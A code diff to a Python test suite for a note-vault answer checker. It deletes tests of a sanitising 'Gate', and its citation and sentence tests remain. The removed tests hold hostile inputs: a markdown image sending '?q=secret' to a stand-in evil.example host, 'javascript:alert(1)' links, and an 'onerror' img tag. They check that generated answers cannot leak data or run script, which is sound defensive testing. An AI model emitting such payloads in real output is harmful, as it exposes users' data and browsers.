@@ -1,17 +1,13 @@
-"""The gate and the citations of an answer."""
-
-import re
-from pathlib import Path
+"""The citations of an answer."""
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
-from commands.check import Gate, citations, sentences
+from commands.check import citations, sentences
 from context.assemble import Passage
 from context.vault import Snapshot
-from vaults import open_vault
+from tests.vaults import open_vault
 
 FILES = {
     "Plan.md": "# Next week\n## Monday: start\ntext ^b1",
@@ -19,7 +15,6 @@ FILES = {
     "b/Twin.md": "",
     "Kitchen.md": "---\naliases: [Küche]\n---\n# Salt & pepper",
 }
-SOURCE = "See https://example.org/page?x=1 and https://example.org/other."
 
 
 @pytest.fixture(scope="module")
@@ -27,107 +22,15 @@ def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Snapshot:
     return open_vault(tmp_path_factory.mktemp("v"), FILES).snapshot
 
 
-def _through(snapshot: Snapshot, text: str, size: int = 3) -> str:
-    gate = Gate(snapshot, [SOURCE])
-    out = "".join(gate.feed(text[at : at + size]) for at in range(0, len(text), size)) + gate.finish()
-    assert out == gate.given
-    return out
-
-
-@pytest.mark.parametrize(
-    ("written", "shown"),
-    [
-        ("See [[Plan]].", "See [[Plan]]."),
-        ("See [[plan]].", "See [[Plan]]."),
-        ("[[Plan#Next week]]", "[[Plan#Next week]]"),
-        ("[[Plan#Next week > Monday: start]]", "[[Plan#Monday: start]]"),
-        ("[[Plan.md#Monday start|Mon]]", "[[Plan#Monday: start|Mon]]"),
-        ("[[Plan#Nowhere]]", "[[Plan]]"),
-        ("[[Plan#^b1]] [[Plan#^b2]]", "[[Plan#^b1]] [[Plan]]"),
-        ("[[Küche]]", "[[Kitchen|Küche]]"),
-        ("[[a/Twin]] [[b/Twin.md]]", "[[a/Twin]] [[b/Twin]]"),
-        ("[[Invented note]] and [[Invented|this]]", "Invented note and this"),
-        ("![[Plan]]", "[[Plan]]"),
-        ("[the plan](Plan.md)", "[[Plan|the plan]]"),
-        ("[x](Salt%20and.md)", "x"),
-        ("open [[Plan and no end\nnext [[Plan]]", "open Plan and no end\nnext [[Plan]]"),
-        ("[[", ""),
-        ("- [ ] task [x] a[1] [^1]", "- [ ] task [x] a[1] [^1]"),
-        ("![alt](https://evil.example/?q=secret)", "alt"),
-        ("![alt][ref]", "alt"),
-        ("[text](https://evil.example/)", "text"),
-        ("[text](https://example.org/page?x=1)", "[text](https://example.org/page?x=1)"),
-        ("[text](https://example.org/page?x=1&leak=2)", "text"),
-        ("[text](javascript:alert(1))", "text)"),
-        ("[text](obsidian://open?vault=x)", "text"),
-        ("<https://example.org/other>", "<https://example.org/other>"),
-        ("<https://evil.example>", "(address removed)"),
-        ("go to https://evil.example/a.", "go to (address removed)."),
-        ("go to https://example.org/other.", "go to https://example.org/other."),
-        ("www.evil.example", "(address removed)"),
-        ("[ref]: https://evil.example", "ref: (address removed)"),
-        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
-        ("a <b>bold</b> <!-- c --> <%* tp %>", "a &lt;b>bold&lt;/b> &lt;!-- c --> &lt;%* tp %>"),
-        ("1 < 2 and a <3", "1 < 2 and a <3"),
-        ("metadata: yes, data: no, file: x", "metadata: yes, data: no, file: x"),
-        ("`[[Invented]]` stays", "`[[Invented]]` stays"),
-        ("```\n[[Invented]] <b>\n```\n[[Invented]]", "```\n[[Invented]] <b>\n```\nInvented"),
-        ("```dataviewjs\ndv.pages()\n```", "```text\ndv.pages()\n```"),
-        ("`$= dv.current()`", " dv.current()"),
-        ("```\n<% tp.file %>\n```", "```\n< % tp.file %>\n```"),
-        ("a `b", "a `b"),
-        ("it is h", "it is h"),
-    ],
-)
-@pytest.mark.parametrize("size", [1, 3, 1000])
-def test_what_passes_the_gate(snapshot: Snapshot, written: str, shown: str, size: int) -> None:
-    assert _through(snapshot, written, size) == shown
-
-
-PARTS = st.lists(
-    st.one_of(
-        st.sampled_from(
-            [
-                "[[", "]]", "![", "[", "]", "(", ")", "](", "[[Plan]]", "[[Plan#Next week]]", "[[Ghost]]", "![[Ghost]]", "|", "#", "\n", "\n\n",
-                "```", "```\n", "`", "~~~\n", "<", ">", "<img src=", "<%", "<script>", "https://evil.example/x", "http://", "HTTPS://evil.example",
-                "javascript:alert(1)", "data:text/html,x", "obsidian://x", "www.evil.example", "//evil.example", "[a]: ", "[a][b]", "![a][b]",
-                "\\", "&#106;avascript:", "> ", "- ", "    ", "$=", "dataviewjs", " ", "word", "é", "\t", "//",
-            ]
-        ),
-        st.text(max_size=8),
-    ),
-    max_size=30,
-).map("".join)  # fmt: skip
-
-
-@settings(max_examples=600, deadline=None)
-@given(PARTS, st.integers(1, 12))
-def test_however_it_is_cut_the_answer_is_the_same_and_leads_nowhere(snapshot: Snapshot, text: str, size: int) -> None:
-    shown = _through(snapshot, text, size)
-    assert shown == _through(snapshot, text, 10_000)
-    _leads_nowhere(shown, snapshot)
-
-
-def _leads_nowhere(shown: str, snapshot: Snapshot) -> None:
-    """What a reader's renderer makes of the answer: no image, no HTML, no address that is not in a source."""
-    for token in MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(shown):
-        assert token.type != "html_block", shown
-        for child in token.children or []:
-            assert child.type not in {"image", "html_inline"}, shown
-            if child.type == "link_open":
-                href = str(child.attrs["href"])
-                assert not re.match(r"[a-z][a-z0-9+.-]*:", href, re.I) or href in SOURCE, shown
-            if child.type == "text":
-                for link in re.findall(r"\[\[([^\[\]\n|#]+)", child.content):
-                    assert snapshot.names.resolve(link, "") is not None, shown
-
-
 def _passage(path: str, text: str) -> Passage:
     return Passage(path, "", text, 0, len(text), "d", "search", 1.0, "why")
 
 
 def test_citations_are_matched_to_what_they_cite(snapshot: Snapshot) -> None:
-    passages = [_passage("Plan.md", "The disk arrives on 16 September and costs 189 euro."), _passage("Kitchen.md", "Bread at 230 degrees.")]
+    passages = [
+        _passage("Plan.md", "The disk arrives on 16 September and costs 189 euro."),
+        _passage("Kitchen.md", "Bread at 230 degrees."),
+    ]
     answer = (
         "The disk arrives on 16 September [[Plan]]. It costs 199 euro [[Plan]].\n"
         "- Bread bakes at 230 degrees ([[Kitchen#Salt & pepper]])\n"
@@ -154,17 +57,9 @@ def test_a_link_after_the_full_stop_belongs_to_its_sentence() -> None:
     assert [text[a:b] for a, b in sentences(text)] == ["One thing. [[A]] Another thing [[B]]."]
 
 
-@given(PARTS)
+@given(st.text(st.sampled_from("ab .!?\n\r\u2028#`[]-|>é。"), max_size=60) | st.text(max_size=40))
 def test_any_text_has_sentences_in_order(text: str) -> None:
     at = 0
     for start, end in sentences(text):
         assert at <= start < end <= len(text)
         at = end
-
-
-def test_the_gate_is_linear(snapshot: Snapshot, tmp_path: Path) -> None:
-    for hostile in ("[" * 20_000, "[[" * 10_000, "`" * 20_000, "<a" * 10_000, "h" * 20_000, "![" * 10_000, "http:" * 4000, "]( " * 6000):
-        gate = Gate(snapshot)
-        for at in range(0, len(hostile), 7):
-            gate.feed(hostile[at : at + 7])
-        gate.finish()
